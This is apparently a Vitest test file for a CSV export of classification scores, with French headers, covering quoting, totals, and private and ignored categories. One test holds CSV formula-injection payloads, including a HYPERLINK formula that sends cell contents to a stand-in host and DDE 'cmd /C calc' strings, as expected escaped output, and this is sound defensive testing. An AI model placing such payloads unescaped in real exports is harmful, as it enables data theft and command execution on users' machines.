import { describe, expect, it } from 'vitest';
import { scoresCsv } from './scoresCsv';
import { FORMULA_LIKE_NAMES } from '../../../test/fixtures';

const headers = {
  kind: 'Type',
  classification: 'Classification',
  tp: 'VP',
  fp: 'FP',
  fn: 'FN',
  precision: 'Précision',
  sensitivity: 'Sensibilité',
  expected: 'Attendus',
  detected: 'Détectés',
  falses: 'Erreurs',
};

describe('scoresCsv', () => {
  it('writes one line per classification, then the micro and macro totals, then those no domain rule covered, in the user’s words', () => {
    const csv = scoresCsv(
      {
        kinds: [
          {
            kind: 'categories',
            classifications: [
              {
                classification: 'Sinistre, "auto"',
                tp: 3,
                fp: 1,
                fn: 0,
                precision: 0.75,
                sensitivity: 1,
                expected: 3,
                detected: 4,
                falses: 1,
              },
              {
                classification: 'Résiliation',
                tp: 0,
                fp: 0,
                fn: 2,
                precision: null,
                sensitivity: 0,
                expected: 2,
                detected: 0,
                falses: 2,
              },
            ],
            micro: { tp: 3, fp: 1, fn: 2, precision: 0.75, sensitivity: 0.6 },
            macro: { precision: 0.75, sensitivity: 0.5 },
            qualifiedMessages: 5,
            notQualifiedMessages: 1,
            noDomainRule: [{ classification: 'Réclamation', messages: 2 }],
            ignored: [],
            private: [],
          },
        ],
        domainRules: [],
        falses: [],
        messages: { done: 6, error: 0, notRun: 0 },
      },
      headers,
      {
        kind: () => 'Catégories du message',
        micro: 'Total (micro)',
        macro: 'Moyenne (macro)',
        ignored: 'ignorée',
      },
    );
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.slice(1).split('\r\n')).toEqual([
      '"Type","Classification","VP","FP","FN","Précision","Sensibilité","Attendus","Détectés","Erreurs"',
      '"Catégories du message","Sinistre, ""auto""",3,1,0,0.75,1,3,4,1',
      '"Catégories du message","Résiliation",0,0,2,,0,2,0,2',
      '"Catégories du message","Total (micro)",3,1,2,0.75,0.6,5,4,3',
      '"Catégories du message","Moyenne (macro)",,,,0.75,0.5,,,',
      '"Catégories du message","Réclamation (NO_DOMAIN_RULE)",,,,,,,,',
      '',
    ]);
  });

  // docs/security.md, "Exports": a category is named by whoever configures the project; opened in a
  // spreadsheet, the export must show that name, never run it.
  it('writes no cell that a spreadsheet would run as a formula', () => {
    const names = FORMULA_LIKE_NAMES;
    const row = { tp: 1, fp: 0, fn: 0, precision: 1, sensitivity: 1, expected: 1, detected: 1, falses: 0 };
    const csv = scoresCsv(
      {
        kinds: [
          {
            kind: 'categories',
            classifications: names.map((classification) => ({ classification, ...row })),
            micro: { tp: 6, fp: 0, fn: 0, precision: 1, sensitivity: 1 },
            macro: { precision: 1, sensitivity: 1 },
            qualifiedMessages: 6,
            notQualifiedMessages: 0,
            noDomainRule: [],
            ignored: [],
            private: [],
          },
        ],
        domainRules: [],
        falses: [],
        messages: { done: 6, error: 0, notRun: 0 },
      },
      headers,
      { kind: () => '@Catégories', micro: '=micro', macro: '-macro', ignored: 'ignorée' },
    );
    const lines = csv.slice(1).split('\r\n');
    expect(lines.slice(1, 9)).toEqual([
      `"'@Catégories","'=HYPERLINK(""http://evil.test/?""&A1,""click"")",1,0,0,1,1,1,1,0`,
      `"'@Catégories","'+1+cmd|' /C calc'!A0",1,0,0,1,1,1,1,0`,
      `"'@Catégories","'-2+3+cmd|' /C calc'!A0",1,0,0,1,1,1,1,0`,
      `"'@Catégories","'@SUM(1+1)*cmd|' /C calc'!A0",1,0,0,1,1,1,1,0`,
      `"'@Catégories","'\t=1+1",1,0,0,1,1,1,1,0`,
      `"'@Catégories","'\r=1+1",1,0,0,1,1,1,1,0`,
      `"'@Catégories","'=micro",6,0,0,1,1,6,6,0`,
      `"'@Catégories","'-macro",,,,1,1,,,`,
    ]);
  });
  // docs/testing-centre.md, "Classifications: value types, ignored, private".
  it('leaves a private classification out and lists an ignored one, marked, without figures', () => {
    const row = { tp: 1, fp: 0, fn: 0, precision: 1, sensitivity: 1, expected: 1, detected: 1, falses: 0 };
    const csv = scoresCsv(
      {
        kinds: [
          {
            kind: 'categories',
            classifications: [
              { classification: 'Sinistre', ...row },
              { classification: 'Dossier médical', ...row },
            ],
            micro: { tp: 2, fp: 0, fn: 0, precision: 1, sensitivity: 1 },
            macro: { precision: 1, sensitivity: 1 },
            qualifiedMessages: 2,
            notQualifiedMessages: 0,
            noDomainRule: [],
            ignored: [{ classification: 'Publicité', messages: 3 }],
            private: ['Dossier médical'],
          },
        ],
        domainRules: [],
        falses: [],
        messages: { done: 2, error: 0, notRun: 0 },
      },
      headers,
      { kind: () => 'Catégories', micro: 'Total (micro)', macro: 'Moyenne (macro)', ignored: 'ignorée' },
    );
    expect(csv.slice(1).split('\r\n').slice(1, -1)).toEqual([
      '"Catégories","Sinistre",1,0,0,1,1,1,1,0',
      '"Catégories","Total (micro)",2,0,0,1,1,2,2,0',
      '"Catégories","Moyenne (macro)",,,,1,1,,,',
      '"Catégories","Publicité (ignorée)",,,,,,,,',
    ]);
  });
});
